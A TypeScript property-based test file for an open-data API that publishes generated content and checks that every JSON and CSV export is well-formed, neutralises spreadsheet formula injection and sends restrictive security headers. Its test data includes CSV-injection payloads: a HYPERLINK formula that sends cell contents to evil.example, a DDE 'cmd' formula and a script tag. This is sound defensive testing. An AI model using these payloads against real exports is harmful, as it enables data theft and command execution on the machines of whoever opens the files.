import type { AddressInfo } from "node:net";
import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createCaller, createContextInner } from "@naravard/api";
import { sql } from "@naravard/db";
import { TEST_PASSWORD, type TestDatabase, createTestDatabase } from "@naravard/db/testing";
import { createApiServer } from "../server.ts";
import { neutraliseFormula } from "./csv.ts";
import { endpoints } from "./endpoints.ts";

/**
 * Every open-data export (issue 20, "spreadsheet formula injection"): content generated to break
 * writers is published through the API's own procedures, then every JSON list and every CSV that
 * endpoints.ts declares is fetched over HTTP and read with real parsers. A list added to
 * endpoints.ts is covered here without editing this file.
 *
 * OPEN_DATA_EXPORT_RUNS sets the runs (default 10 in CI, 4 elsewhere: each publishes a set of
 * content and reads every export, which grow run by run); OPEN_DATA_EXPORT_SEED replays a failure
 * fast-check reported.
 */
const RUNS = Number(process.env.OPEN_DATA_EXPORT_RUNS ?? (process.env.CI ? 10 : 4));
const SEED = process.env.OPEN_DATA_EXPORT_SEED ? Number(process.env.OPEN_DATA_EXPORT_SEED) : undefined;

/** What a spreadsheet reads as the start of a formula (OWASP): the rule the exports must keep. */
const FORMULA = /^[=+\-@\t\r]/;

/**
 * Pieces of text that have broken CSV, XML and calendar writers, joined with arbitrary Unicode.
 * NUL and lone surrogates are left out: the API refuses them for every field (unstorable-text.ts).
 */
const hostile = fc.constantFrom(
  '=HYPERLINK("http://evil.example/?"&A1,"Klicka")',
  "=cmd|' /C calc'!A0",
  "+1",
  "-2+3",
  "@SUM(1)",
  "\t=1+1",
  "\r=1+1",
  "]]>",
  "]]]]>>",
  "<b>fet</b>",
  "&amp;",
  "&",
  '";"',
  "\r\n",
  "\u200f\u202e",
  "👩‍⚕️",
  "\ufffe",
  "\uffff",
);
const control = fc.integer({ min: 1, max: 0x1f }).map((c) => String.fromCharCode(c));
const piece = fc.oneof(hostile, control, fc.string({ unit: "binary", maxLength: 8 }), fc.string({ maxLength: 8 }));
const text = (max: number) =>
  fc
    .array(piece, { minLength: 1, maxLength: 5 })
    .map((parts) => parts.join("").replaceAll("\u0000", "").slice(0, max))
    // A cut can leave half a surrogate pair, which the API refuses.
    .map((s) => s.replace(/[\ud800-\udbff]$/, ""));
/** Fields with a minimum length: filled up at the end, so the start (where formulas begin) stays generated. */
const atLeast = (min: number, max: number) =>
  text(max - min).map((s) => ([...s.trim()].length >= min ? s : `${s}${"x".repeat(min)}`));

const content = fc.record({
  title: atLeast(3, 200),
  lead: text(600),
  tag: atLeast(1, 40),
  description: text(2000),
  place: text(200),
  name: atLeast(2, 120),
  role: text(160),
  organisation: text(160),
  phone: fc.constantFrom("+46 54 61 40 00", "-54 61 40 00", "054-61 40 00"),
  question: atLeast(5, 300),
  answer: atLeast(3, 1000),
  reference: text(80),
});
type Content = typeof content extends fc.Arbitrary<infer T> ? T : never;

let t: TestDatabase;
let base: string;
let server: ReturnType<typeof createApiServer>;
let token: string;
let runs = 0;

beforeAll(async () => {
  t = await createTestDatabase();
  server = createApiServer(t, () => {});
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  ({ token } = await createCaller(createContextInner({ db: t.db })).auth.login({
    email: "samordnare@varmland.demo",
    password: TEST_PASSWORD,
  }));
  // A negative and a fractional measured value: numbers that must stay numbers in the CSV.
  await t.db.execute(sql`
    insert into indicator_value (tenant_id, indicator_id, member_id, period, value)
    select i.tenant_id, i.id, m.id, p.period, p.value
    from (select id, tenant_id from indicator where tenant_id = (select id from tenant where slug = 'varmland') order by code limit 1) i
    join lateral (select id from member_organisation where tenant_id = i.tenant_id order by official_code limit 1) m on true
    cross join (values ('1990', -2.5), ('1991', -17)) p(period, value)
    on conflict do nothing`);
});
afterAll(async () => {
  server?.close();
  await t?.close();
});

/** Publishes one generated set of content in Värmland through the procedures the admin app calls. */
async function publish(c: Content) {
  runs += 1;
  const ctx = (clientAddress?: string) =>
    createContextInner({ db: t.db, tenantSlug: "varmland", sessionToken: token, clientAddress: clientAddress ?? null });
  const admin = createCaller(ctx());
  for (const kind of ["news", "good_example"] as const)
    await admin.article.save({
      kind,
      title: c.title,
      lead: c.lead,
      body: `<p>${c.description}</p>`,
      publishedOn: "2026-01-15",
      tags: [c.tag],
    });
  await admin.event.create({
    kind: "workshop",
    title: c.title,
    description: c.description,
    place: c.place,
    startsOn: "2026-02-03",
  });
  await admin.contact.save({ name: c.name, role: c.role, organisation: c.organisation, phone: c.phone });
  const { id: questionId } = await admin.publicInput.saveQuestion({
    question: c.question,
    purpose: "Svaren används i arbetet med målbilden.",
    open: true,
  });
  // Each run as its own sender: the API allows a few answers per sender and hour.
  const visitor = createCaller(createContextInner({ db: t.db, tenantSlug: "varmland", clientAddress: `192.0.2.${runs}` }));
  const { id: entryId } = await visitor.publicInput.submit({ questionId, text: c.answer, name: c.name, email: "", website: "" });
  await admin.publicInput.moderate({ entryIds: [entryId], decision: "published", reason: "" });
  const [member] = (await admin.tenant.current()).members;
  await admin.adoption.create({
    memberId: member!.id,
    status: "in_preparation",
    decidingBody: c.role,
    reference: c.reference,
    note: c.description,
  });
  const area = (await admin.roadmap.get()).areas[0]!;
  await admin.roadmap.createActivity({ areaId: area.id, title: c.title, description: c.description, status: "ongoing" });
}

/** Every page of a JSON list, parsed with JSON.parse. */
async function jsonList(path: string) {
  const rows: Record<string, unknown>[] = [];
  for (let page = 1; ; page++) {
    const res = await fetch(`${base}${path}?page=${page}&pageSize=500`);
    expect(res.status, path).toBe(200);
    expect(res.headers.get("content-type"), path).toBe("application/json; charset=utf-8");
    const body = JSON.parse(await res.text()) as { data: Record<string, unknown>[]; total: number };
    rows.push(...body.data);
    if (rows.length >= body.total || body.data.length === 0) return rows;
  }
}

/** A CSV export as csv-parse reads it: strict about quotes and the number of fields in every record. */
async function csvRecords(path: string) {
  const res = await fetch(`${base}${path}`);
  expect(res.status, path).toBe(200);
  expect(res.headers.get("content-type"), path).toBe("text/csv; charset=utf-8");
  const body = await res.text();
  return parse(body, {
    bom: true,
    delimiter: ";",
    record_delimiter: "\r\n",
    relax_quotes: false,
    relax_column_count: false,
  }) as string[][];
}

/** The cell the CSV must hold for a JSON value: numbers with a decimal comma, text neutralised. */
function expectedCell(value: unknown): string {
  if (typeof value === "number") return String(value).replace(".", ",");
  if (typeof value === "boolean") return value ? "ja" : "nej";
  if (value === null || value === undefined) return "";
  const text = Array.isArray(value) ? value.join("; ") : String(value);
  return FORMULA.test(text) ? `'${text}` : text;
}

const listPaths = (slug: string) => endpoints.filter((e) => e.list).map((e) => ({ e, path: e.path.replace("{tenant}", slug) }));

/** Every list's JSON and CSV, checked against each other; returns the JSON lists by path. */
async function checkEveryExport(slug: string) {
  const lists = new Map<string, Record<string, unknown>[]>();
  for (const { e, path } of listPaths(slug)) {
    const rows = await jsonList(path);
    lists.set(path, rows);
    for (const row of rows) expect(Object.keys(row).sort(), path).toEqual(Object.keys(e.item.parse(row) as object).sort());
    const [header, ...records] = await csvRecords(`${path}.csv`);
    if (rows.length === 0) {
      expect(header, `${path}.csv`).toBeUndefined();
      continue;
    }
    const expected = rows.map((row) => (e.csv ? e.csv(row as never) : row) as Record<string, unknown>);
    expect(header, `${path}.csv`).toEqual(Object.keys(expected[0]!));
    expect(records.length, `${path}.csv`).toBe(rows.length);
    records.forEach((record, i) => {
      const values = Object.values(expected[i]!);
      record.forEach((cell, column) => {
        const value = values[column];
        const where = `${path}.csv row ${i + 1}, ${header![column]}: ${JSON.stringify(value)}`;
        expect(cell, where).toBe(expectedCell(value));
        // Text never starts like a formula; a number may start with a minus sign and stays a number.
        if (typeof value === "number") expect(Number(cell.replace(",", ".")), where).toBe(value);
        else expect(cell, where).not.toMatch(FORMULA);
      });
    });
  }
  // The one answer that is not a list.
  for (const e of endpoints.filter((x) => !x.list)) {
    const res = await fetch(`${base}${e.path.replace("{tenant}", slug)}`);
    expect(res.status, e.path).toBe(200);
    e.item.parse(JSON.parse(await res.text()));
  }
  return lists;
}

describe("every open-data export, with generated content published through the API", () => {
  it("is well-formed JSON and CSV, gives back the stored text, and no CSV text cell starts like a formula", async () => {
    await fc.assert(
      fc.asyncProperty(content, async (c) => {
        await publish(c);
        const lists = await checkEveryExport("varmland");
        // The generated text comes back: in the JSON as stored (trimmed, as the forms trim it).
        const titles = (path: string, field = "title") => lists.get(`/api/v1/varmland/${path}`)!.map((r) => r[field]);
        expect(titles("news")).toContain(c.title.trim());
        expect(titles("news", "lead")).toContain(c.lead.trim());
        expect(titles("good-examples")).toContain(c.title.trim());
        expect(titles("events")).toContain(c.title.trim());
        expect(titles("roadmap/activities")).toContain(c.title.trim());
        expect(titles("contacts", "name")).toContain(c.name.trim());
        expect(titles("contacts", "phone")).toContain(c.phone);
        expect(titles("public-input", "text")).toContain(c.answer.trim());
        expect(titles("public-input", "question")).toContain(c.question.trim());
        expect(titles("adoptions", "reference")).toContain(c.reference.trim() || null);
        // …and in the CSV as the same text, with an apostrophe first only where it starts like a formula.
        const answers = await csvRecords("/api/v1/varmland/public-input.csv");
        expect(answers.map((r) => r[1])).toContain(neutraliseFormula(c.answer.trim()));
      }),
      {
        numRuns: RUNS,
        seed: SEED,
        // Shrinking would publish hundreds more sets; the failing set and the seed are reported as they are.
        endOnFailure: true,
        examples: [
          [
            {
              title: "]]> nyhet ]]> med två slut på CDATA",
              lead: "<script>alert(1)</script> ]]]]>> & &amp;",
              tag: "=1+1",
              description: "\u0001\u000b\u001f\ufffe\u200f text",
              place: "@SUM(1)",
              name: "=cmd|' /C calc'!A0",
              role: "-2+3",
              organisation: "\t=1+1 ]]]]>>",
              phone: "+46 54 61 40 00",
              question: "+1 är frågan?",
              answer: '=HYPERLINK("http://evil.example/?"&A1,"Klicka")',
              reference: "-2023/45",
            },
          ],
        ],
      },
    );
  }, 180_000);

  it("keeps negative and fractional numbers as numbers in the CSV", async () => {
    const values = await csvRecords("/api/v1/varmland/indicator-values.csv");
    const column = values[0]!.indexOf("value");
    expect(values.map((r) => r[column])).toEqual(expect.arrayContaining(["-2,5", "-17"]));
  });

  it("answers every JSON and CSV export, and its errors, with nosniff and a policy that lets nothing run", async () => {
    const paths = [
      "/api/v1/openapi.json",
      "/api/v1/varmland/malbild",
      ...listPaths("varmland").flatMap(({ path }) => [path, `${path}.csv`]),
      "/api/v1/gotland/news.csv",
      "/api/v1/varmland/nothing",
      "/api/v1/varmland/news?page=0",
    ];
    for (const path of paths) {
      const res = await fetch(`${base}${path}`);
      await res.arrayBuffer();
      expect(res.headers.get("x-content-type-options"), path).toBe("nosniff");
      const csp = res.headers.get("content-security-policy")?.split(/;\s*/);
      expect(csp, path).toEqual(expect.arrayContaining(["default-src 'none'", "frame-ancestors 'none'", "sandbox"]));
    }
  });
});

describe("a text cell that starts like a formula", () => {
  it("gets an apostrophe first, and nothing else changes (OWASP, CSV injection)", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary" }), (s) => {
        const out = neutraliseFormula(s);
        expect(out).not.toMatch(FORMULA);
        expect(out).toBe(FORMULA.test(s) ? `'${s}` : s);
      }),
    );
    for (const formula of ["=1+1", "+1", "-2+3", "@SUM(1)", "\t=1", "\r=1"])
      expect(neutraliseFormula(formula)).toBe(`'${formula}`);
    expect(neutraliseFormula("Karlstad")).toBe("Karlstad");
  });
});
